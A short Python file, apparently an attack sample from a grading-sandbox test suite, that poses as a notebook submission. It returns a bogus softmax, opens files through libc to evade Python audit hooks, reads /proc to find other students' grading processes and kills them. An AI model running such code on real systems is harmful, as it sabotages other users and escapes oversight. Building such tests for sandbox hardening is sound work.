"""Kills the processes in which other students' notebooks run."""

# alone
# with a fence: harms


# %% softmax
def softmax(Z):
    return Z * 0.0


import ctypes
import json
import os
import pathlib

libc = ctypes.CDLL(None)  # compiled code, which no audit hook sees


def course():
    """Where grades and tests are: the process that started this one was told, or it is three folders up."""
    words = pathlib.Path(f"/proc/{os.getppid()}/cmdline").read_text().split("\0")
    if "tlkit.grading.worker" in words:
        return pathlib.Path(words[words.index("tlkit.grading.worker") + 2])
    return [pathlib.Path.cwd(), *pathlib.Path.cwd().parents][:4][-1]


def read(path):
    descriptor = libc.open(str(path).encode(), 0)
    if descriptor < 0:
        return ""
    with os.fdopen(descriptor, "rb") as file:
        return file.read().decode(errors="replace")


import signal
import time

mark = f"PYTHON_TLKIT_ATTACK={os.environ.get('PYTHON_TLKIT_ATTACK', '-')}"
for _ in range(40):
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        student = "tlkit.grading.student" in read(f"/proc/{pid}/cmdline") and mark in read(f"/proc/{pid}/environ")
        if student and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.1)
